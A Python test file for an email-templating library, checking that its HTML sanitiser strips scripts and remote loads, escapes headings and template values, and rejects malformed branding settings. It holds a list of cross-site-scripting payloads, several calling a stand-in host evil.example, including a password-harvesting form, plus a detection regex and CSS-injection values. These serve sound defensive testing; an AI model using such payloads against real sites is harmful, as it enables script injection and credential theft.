"""Rich content comes from an editor, from a paste, and with values of strangers in it; what runs or reaches out is dropped.

A notification mailer once put a customer's name into its frame as it was, and sent the customer's HTML under its own logo.
"""

from __future__ import annotations

import re

import pytest

from eilbote.errors import TemplateError
from eilbote.template.branding import Branding
from eilbote.template.frame import framed
from eilbote.template.rich_content import safe_content
from eilbote.template.template import Markup, Template

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='java\tscript:alert(1)'>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<form action=https://evil.example><input name=password><button>ok</button></form>",
    "<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>@import url(https://evil.example/x.css); p { color: red }</style><p>x</p>",
    "<p style='background:url(https://evil.example/x.png)'>x</p>",
    "<p style='width: expression(alert(1))'>x</p>",
    "<p style='position:fixed;top:0;left:0'>x</p>",
    "<p style='background:u\\72l(https://evil.example)'>x</p>",
    "<video src=https://evil.example autoplay></video><audio src=https://evil.example></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "</div></body></html><script>alert(1)</script>",
]
_RUNS = re.compile(
    r"<\s*(?:script|style|iframe|object|embed|form|input|button|base|link|meta|svg|math|video|audio|template)"
    r"|\son\w+\s*=|script:|position\s*:|url\(|expression|@import|data:text",
    re.IGNORECASE,
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_runs_or_reaches_out_is_dropped(payload: str) -> None:
    kept = safe_content(f"<p>before</p>{payload}<p>after</p>")
    assert _RUNS.search(kept) is None, kept
    assert "before" in kept


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_heading_is_text_and_never_html(payload: str) -> None:
    around = framed("<p>content</p>", heading="plain", report_id="1")
    attacked = framed("<p>content</p>", heading=payload, report_id="1")
    assert len(re.findall(r"<\w", attacked)) == len(re.findall(r"<\w", around))
    assert payload not in attacked


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_value_in_rich_content_is_text_and_never_html(payload: str) -> None:
    template = Template("<p title='{{ name }}'>Dear {{ name }}</p>", markup=Markup.HTML)
    kept = safe_content(template.render({"name": payload}))
    assert re.findall(r"</?\w+", kept) == ["<p", "</p"]


def test_what_people_write_is_kept() -> None:
    html = (
        '<h2 style="color:#333">Title</h2><p>A <b>bold</b> <i>word</i> and a '
        '<a href="https://example.org/a?b=c&amp;d">link</a>.</p><ul><li>one</li></ul>'
        '<table border="1"><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>'
        '<img src="cid:logo@x" alt="Logo" width="20"><hr><blockquote>said</blockquote>'
    )
    kept = safe_content(html)
    for piece in re.findall(r"<(\w+)", html):
        assert f"<{piece}" in kept
    for piece in (
        "color:#333",
        "https://example.org/a?b=c&amp;d",
        'src="cid:logo@x"',
        'colspan="2"',
        'alt="Logo"',
    ):
        assert piece in kept


def test_a_style_sheet_is_written_into_the_elements() -> None:
    kept = safe_content("<style>p.x { color: red }</style><p class='x'>a</p>")
    assert '<p class="x" style="color:red' in kept.replace(": ", ":")


def test_content_larger_than_any_mail_is_refused() -> None:
    with pytest.raises(TemplateError) as refused:
        safe_content("x" * 2_000_000, field="body")
    assert refused.value.field == "body"


@pytest.mark.parametrize(
    "field, value",
    [
        ("accent_colour", "red;} body{display:none"),
        ("accent_colour", "#12345"),
        ("font", "x;}</style><script>"),
        ("logo", "http://example.org/logo.png"),
        ("logo", "javascript:alert(1)"),
        ("logo", "data:image/svg+xml,x"),
        ("website", "https://example.org/ onclick=x"),
        ("website", "javascript://example.org/%0aalert(1)"),
        ("website", "https://"),
        ("logo_width", 0),
    ],
)
def test_branding_that_would_break_the_frame_is_refused(field: str, value: object) -> None:
    with pytest.raises(TemplateError) as refused:
        Branding(**{field: value})  # type: ignore[arg-type]
    assert refused.value.field == f"branding.{field}"
    assert refused.value.remedy
